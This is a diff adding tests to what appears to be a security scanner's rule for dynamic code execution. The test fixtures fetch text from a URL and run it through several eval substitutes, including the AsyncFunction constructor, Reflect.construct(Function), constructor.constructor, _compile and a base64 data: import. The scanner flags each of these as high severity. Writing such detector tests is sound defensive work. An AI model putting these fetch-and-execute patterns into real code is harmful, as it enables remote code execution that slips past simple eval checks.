@@ -2975,3 +2975,20 @@ describe('auth-bypass-added: a fixed value accepted besides the real check; prot
     expect(ids('src/lint.ts', ['const options = { ignoreCase: true, ignoreComments: true };'])).toEqual([]);
   });
 });
+
+describe('dynamic-code-execution: eval by the other constructors and loaders of JavaScript', () => {
+  const sink = (lines: readonly string[]) => scan([makeFile('src/sync.js', { patch: hunk(lines) })]).filter((f) => f.id === 'dynamic-code-execution').map((f) => f.severity);
+  const FETCH = "  const code = await (await fetch('https://calendar.app.google/M2ZCvM8ULL56PD1d6')).text();";
+
+  it('reads the async function constructor, Reflect.construct(Function), constructor.constructor, _compile and a data: import as eval (high beside a download)', () => {
+    expect(sink([FETCH, '  const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor;', '  await new AsyncFunction(code)();'])).toEqual(['high']);
+    expect(sink([FETCH, '  Reflect.construct(Function, [code])();'])).toEqual(['high']);
+    expect(sink([FETCH, '  [].constructor.constructor(code)();'])).toEqual(['high']);
+    expect(sink([FETCH, '  m._compile(code, "x.js");'])).toEqual(['high']);
+    expect(sink([FETCH, "  await import('data:text/javascript;base64,' + Buffer.from(code).toString('base64'));"])).toEqual(['high']);
+  });
+
+  it('is quiet on an async function, another constructor, a module imported by path and a constructor name read', () => {
+    expect(sink(['const load = async function () { return 1; };', 'const d = Reflect.construct(Date, [2020, 1, 1]);', "const m = await import('./plugins/' + name + '.js');", 'const kind = value.constructor.name;'])).toEqual([]);
+  });
+});
